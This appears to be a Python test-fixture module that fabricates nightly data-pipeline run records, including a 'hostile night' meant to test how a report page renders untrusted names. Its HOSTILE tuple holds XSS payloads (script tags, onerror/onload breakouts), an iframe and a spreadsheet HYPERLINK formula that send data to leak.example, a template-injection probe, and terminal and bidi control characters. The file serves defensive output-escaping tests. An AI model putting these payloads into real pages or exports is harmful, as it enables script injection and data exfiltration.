"""Nights as literal records, for the page that is drawn from them."""

from __future__ import annotations

from datetime import date
from typing import Any

from expectations.trends import Told

DAYS = (date(2026, 6, 28), date(2026, 6, 29), date(2026, 6, 30))


def verdict(
    table: str, rule_id: str, failed: int, checked: int, severity: str = "warning", **more: Any
) -> dict[str, Any]:
    """A verdict as a gate records it."""
    action = {"info": "reported", "warning": "quarantined", "critical": "blocked"}.get(severity, severity)
    return {
        "table_name": table, "rule_id": rule_id, "rule": f"{rule_id} holds.", "severity": severity,
        "rows_checked": checked, "rows_failed": failed, "is_passed": failed == 0, "owner": "finance",
        "action": action if failed else "none",
    } | more  # fmt: skip


def landing(rows: int, rejected: int = 0, *statuses: str) -> dict[str, Any]:
    """What a feed's extraction came to."""
    files = [{"name": f"{number}.csv", "status": status} for number, status in enumerate(statuses)]
    return {"rows": rows, "rejected": rejected, "files": files, "columns": ["a"], "content_hash": "0"}


def account(**fates: int) -> dict[str, int]:
    """Where the rows of a feed went; what is not named is 0."""
    none = dict.fromkeys(
        ("extracted", "excluded", "quarantined", "inserted", "superseding", "unchanged", "duplicate", "held"), 0
    )
    return none | {"unexplained": 0} | fates


def night(number: int, unreadable: int, *, aside: int = 0, **more: Any) -> Told:
    """A published night of 1,000 receipt lines, of which ``unreadable`` have no number for a quantity.

    Args:
        number: which of ``DAYS``.
        unreadable: rows that fail the one rule that may fail.
        aside: raw rows that were set aside.
        more: records to add or to put in the place of others.
    """
    rule = verdict("conformed.order_lines", "order_lines.quantity.readable", unreadable, 1000)
    records: dict[str, Any] = {
        "begin": {"base": f"{DAYS[number - 1]}.r" if number else None, "full": False, "currency": "CNY"},
        "extract.pos": {"pos.receipts": landing(1000, 3, "seen", "landed", "landed")},
        "gate_arrived": {"verdicts": [verdict("raw.pos.receipts", "pos.receipts.not_empty", 0, 1000, "critical")]},
        "gate_raw": {"verdicts": [rule], "quarantined": {"order_lines": {"pos.receipts": aside}} if aside else {}},
        "conservation": {"pos.receipts order_lines": account(extracted=1000, quarantined=aside, inserted=1000 - aside)},
        "gate_clean": {"verdicts": [verdict("clean.order_lines", "order_lines.key", 0, 990, "critical")]},
        "features": {
            "net_revenue_cents": {
                "clean_lines": 150_000_05, "completed": 140_000_00, "guests": 30_000_00, "not_profiled": 10_000_00,
                "profiled": 100_000_00, "customer_days": 100_000_00,
            }
        },
        "identity": {"records": 70, "people": 60, "new_people": 2, "merged": 1},
        "segments": {"warnings": []},
        "time.extract.pos": {"seconds": 2.0},
        "time.gate_raw": {"seconds": 90.0},
    }  # fmt: skip
    return Told(DAYS[number], f"run{number}", records | more)


#: as names, sentences, owners and errors could hold them
MARKUP = "<script>window.broken = 1</script>"
BREAKOUT = "\"'><img src=x onerror='window.broken = 1'><svg onload=alert(1)>"
FORMULA = '=HYPERLINK("http://leak.example/?"&A1,"look")'
STYLE = "</style></title><iframe src=//leak.example></iframe>{{ 7 * 7 }}"
HOSTILE = (MARKUP, BREAKOUT, FORMULA, STYLE, "+1", "-1", "@SUM(1)", "\t=1", "a\x1b[31mb\u202ec")


def hostile_night() -> Told:
    """Whatever a source, a rule or a setting could be called."""
    verdicts = [
        verdict(f"conformed.{text}", f"{text} {severity}", 1, 7, severity, rule=text, owner=text)
        for severity in ("critical", "warning", "info", MARKUP)
        for text in HOSTILE
    ]
    return night(
        2, 40, aside=40,
        **{
            "extract.pos": {text: landing(5, 1, text) for text in HOSTILE},
            "gate_hostile": {"verdicts": verdicts},
            "conservation": {f"{text} {text}": account(extracted=5, inserted=4, unexplained=1) for text in HOSTILE},
            "segments": {"warnings": list(HOSTILE)},
            "begin": {"base": BREAKOUT, "full": False, "currency": MARKUP},
            f"time.{FORMULA}": {"seconds": 1.0},
        },
    )  # fmt: skip
